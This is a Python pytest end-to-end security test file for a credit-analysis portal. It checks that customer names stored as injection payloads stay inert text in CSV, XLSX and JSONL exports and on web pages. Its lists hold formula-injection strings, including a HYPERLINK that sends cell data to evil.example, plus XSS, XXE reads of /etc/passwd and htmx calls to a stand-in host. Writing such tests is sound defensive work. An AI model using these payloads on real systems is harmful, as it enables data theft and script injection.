"""Whatever a source gives as a name: on pages, in print and in files it is a text that does nothing."""

import csv
import json
import re
from collections.abc import Callable
from html.parser import HTMLParser
from io import BytesIO, StringIO
from urllib.parse import urljoin
from zipfile import ZipFile

import pytest
import requests

from tests.security.conftest import MOST_SECONDS, hidden
from tests.security.test_inputs import fresh_cpf
from tests.stack import Analyst, Stack, eventually

pytestmark = pytest.mark.e2e

Browsers = Callable[[str], requests.Session]

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1;"clique")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "＝1+1",
    '"=1+1',
    ";=1+1",
]
MARKUP = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "</title><svg/onload=alert(1)>",
    "<iframe src=file:///etc/passwd>",
    "<link rel=attachment href=file:///etc/passwd>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
    "{{ 7|add:7 }}{% debug %}{# x #}",
    "' hx-get=https://evil.example hx-trigger=load '",
    "javascript:alert(1)",
    r"\\evil.example\share\a.png",
    "url(https://evil.example/a.png)",
    "Ana\u202egnp.exe",
]
DONE = ("complete", "partial", "failed", "cancelled")


@pytest.fixture(scope="module")
def people(stack: Stack) -> dict[str, str]:
    """By CPF a name that Alpha knows, with a debt of less than nothing."""
    told = {fresh_cpf(): name for name in (*FORMULAS, *MARKUP)}
    with stack.session("alpha") as alpha:
        for cpf, name in told.items():
            debts = [{"value": "-5.25", "date": "2026-01-02"}]
            body = {"cpf": cpf, "name": name, "address": name, "debts": debts}
            made = alpha.post(f"{stack.url('alpha')}/api/customers/", json=body, timeout=MOST_SECONDS)
            assert made.status_code == 201, made.text
    return told


@pytest.fixture(scope="module")
def exported(stack: Stack, analyst: Analyst, people: dict[str, str]) -> Callable[[str], bytes]:
    """The results of a list of them, by format."""
    base = stack.url("portal")
    sent = analyst.session.post(
        f"{base}/api/runs/lists/",
        data={"purpose": "credit_analysis"},
        files={"file": ("list.csv", "\n".join(("cpf", *people)).encode())},
        timeout=MOST_SECONDS,
    )
    assert sent.status_code == 202, sent.text
    url = f"{base}/api/runs/{sent.json()['run_id']}/"

    def look() -> str:
        return str(analyst.session.get(url, timeout=MOST_SECONDS).json()["state"])

    eventually(look, until=lambda state: state in DONE, seconds=120)

    def _exported(kind: str) -> bytes:
        answer = analyst.session.get(f"{url}results/?format={kind}", timeout=MOST_SECONDS)
        assert answer.status_code == 200
        return answer.content

    return _exported


def test_a_csv_opens_without_a_formula_and_its_numbers_are_numbers(
    exported: Callable[[str], bytes], people: dict[str, str]
) -> None:
    found = list(csv.DictReader(StringIO(exported("csv").decode("utf-8-sig")), delimiter=";"))
    told = {re.sub(r"\D", "", row["cpf"]): row for row in found}
    assert set(told) == set(people)
    for cpf, name in people.items():
        dangerous = name.startswith(("=", "+", "-", "@", "＝"))
        assert told[cpf]["name"] == (f"'{name}" if dangerous else name)
        assert told[cpf]["debts_total"] == "-5,25"
    cells = [cell for row in found for cell in row.values() if cell]
    assert [each for each in cells if each.startswith(("=", "+", "@", "\t", "\r", "＝"))] == []
    assert {each for each in cells if each.startswith("-")} == {"-5,25"}


def test_a_workbook_has_texts_and_numbers_and_leads_nowhere(
    exported: Callable[[str], bytes], people: dict[str, str]
) -> None:
    with ZipFile(BytesIO(exported("xlsx"))) as book:
        parts = {name: book.read(name).decode() for name in book.namelist()}
    assert not [name for name in parts if re.search(r"externalLink|connection|vba|drawing|media", name)]
    assert "TargetMode" not in "".join(parts.values())
    sheet = parts["xl/worksheets/sheet1.xml"]
    assert not re.search(r"<f[ >]|<hyperlink|<!DOCTYPE|<!ENTITY|t=\"str\"", sheet)
    assert len(re.findall(r"<v>-5\.25</v>", sheet)) == len(people)
    parser = Texts()
    parser.feed(sheet)
    assert set(people.values()) <= set(parser.texts)


def test_lines_of_json_hold_each_name_as_it_is(
    exported: Callable[[str], bytes], people: dict[str, str]
) -> None:
    found = [json.loads(line)["dossier"] for line in exported("jsonl").splitlines()]
    assert {each["cpf"]: each["name"] for each in found} == people
    assert {debt["value"] for each in found for debt in each["debts"]} == {"-5.25"}


@pytest.mark.parametrize("name", [*MARKUP, *FORMULAS[:1]])
def test_on_a_page_and_in_the_person_s_report_it_is_a_text(
    stack: Stack, browsers: Browsers, analyst: Analyst, people: dict[str, str], name: str
) -> None:
    cpf = next(each for each, told in people.items() if told == name)
    base, session, officer = stack.url("portal"), browsers("analyst"), browsers("privacy_officer")
    form = {"cpf": cpf, "purpose": "collection", **hidden(session, f"{base}/account/")}
    sent = session.post(f"{base}/", form, timeout=MOST_SECONDS)
    wait = urljoin(base, sent.history[0].headers["Location"])  # it may have led on to the dossier
    page = eventually(
        lambda: session.get(wait, timeout=MOST_SECONDS), until=lambda each: "/dossiers/" in each.url
    )
    report = {"cpf": cpf, "act": "report", **hidden(officer, f"{base}/account/")}
    pages = {
        "dossier": page,
        "diff": session.get(f"{page.url}diff/", timeout=MOST_SECONDS),
        "attempts": session.get(f"{wait}attempts/", timeout=MOST_SECONDS),
        "home": session.get(f"{base}/", timeout=MOST_SECONDS),
        "report": officer.post(f"{base}/persons/act/", report, timeout=MOST_SECONDS),
    }
    for where, answer in pages.items():
        assert answer.status_code == 200, where
        parser = Texts()
        parser.feed(answer.text)
        assert name in " ".join(parser.texts), where
        assert parser.strange == [], where
    assert "root:" not in pages["report"].text


class Texts(HTMLParser):
    """What a reader sees of a page, and which of its elements nobody of us has written."""

    def __init__(self) -> None:
        super().__init__()
        self.texts: list[str] = []
        self.strange: list[str] = []

    def handle_data(self, data: str) -> None:
        if data.strip():
            self.texts.append(data)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        told = dict(attrs)
        if tag in ("iframe", "object", "embed", "base", "foreignobject") or any(
            name.startswith("on") for name in told
        ):
            self.strange.append(f"{tag} {told}")
        for name in ("src", "href", "action", "hx-get", "hx-post", "style"):
            if re.search(r"evil|^file:|^javascript:|onerror|alert", told.get(name) or ""):
                self.strange.append(f"{tag} {told}")
        if tag == "script" and not (told.get("src") or "").startswith("/static/"):
            self.strange.append(f"{tag} {told}")
